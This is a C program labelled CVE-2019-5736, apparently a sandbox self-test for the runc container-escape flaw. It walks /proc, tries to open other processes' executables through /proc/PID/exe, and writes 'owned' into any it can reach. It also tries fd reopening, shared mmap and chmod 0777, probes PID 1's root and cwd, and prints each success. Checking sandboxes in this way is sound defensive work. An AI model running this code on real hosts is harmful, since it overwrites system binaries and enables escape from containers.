/* CVE-2019-5736: waits for programs to be started and tries to write to what they are started from. Prints every success. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static int is_same(const struct stat* a, const char* path) {
  struct stat b;
  return stat(path, &b) == 0 && a->st_dev == b.st_dev && a->st_ino == b.st_ino;
}

/* Of the programs that this sandbox itself brought along, nothing is to be said. */
static int is_own(const char* path, const char* brought) {
  struct stat about;
  return stat(path, &about) != 0 || is_same(&about, brought) || is_same(&about, "/proc/self/exe");
}

static void attack(const char* path) {
  const int modes[] = {O_WRONLY, O_RDWR, O_WRONLY | O_TRUNC, O_RDWR | O_APPEND};
  for (unsigned i = 0; i < sizeof modes / sizeof modes[0]; i++) {
    int fd = open(path, modes[i] | O_NONBLOCK);
    if (fd < 0) continue;
    char target[256] = "";
    ssize_t n = readlink(path, target, sizeof target - 1);
    printf("opened %s (%.*s)\n", path, (int)n, target);
    if (write(fd, "owned", 5) == 5) printf("wrote %s\n", path);
    close(fd);
  }
  int fd = open(path, O_RDONLY | O_NONBLOCK);
  if (fd < 0) return;
  /* The way of the original: hold it open for reading, write later through the descriptor's name. */
  char again[64];
  snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
  if (open(again, O_WRONLY) >= 0) printf("reopened %s\n", path);
  void* page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
  if (page != MAP_FAILED) printf("mapped %s\n", path);
  if (fchmod(fd, 0777) == 0) printf("changed %s\n", path);
  close(fd);
}

int main(int argc, char** argv) {
  const char* self = argv[1];
  const time_t end = time(NULL) + atoi(argv[2]);
  (void)argc;
  printf("ready\n");
  fflush(stdout);
  for (long rounds = 0; time(NULL) < end || rounds < 50; rounds++) {
    DIR* proc = opendir("/proc");
    for (struct dirent* entry; (entry = readdir(proc)) != NULL;) {
      if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
      char path[64];
      snprintf(path, sizeof path, "/proc/%.20s/exe", entry->d_name);
      if (!is_own(path, self)) attack(path);
      const char* maps[] = {"map_files", "fd", "cwd", "root"};
      for (unsigned i = 0; i < 4 && atoi(entry->d_name) == 1; i++) {
        snprintf(path, sizeof path, "/proc/%.20s/%s", entry->d_name, maps[i]);
        if (i != 1 && access(path, R_OK) == 0 && open(path, O_RDONLY) >= 0) printf("opened %s\n", path);
      }
    }
    closedir(proc);
  }
  printf("done\n");
  return 0;
}
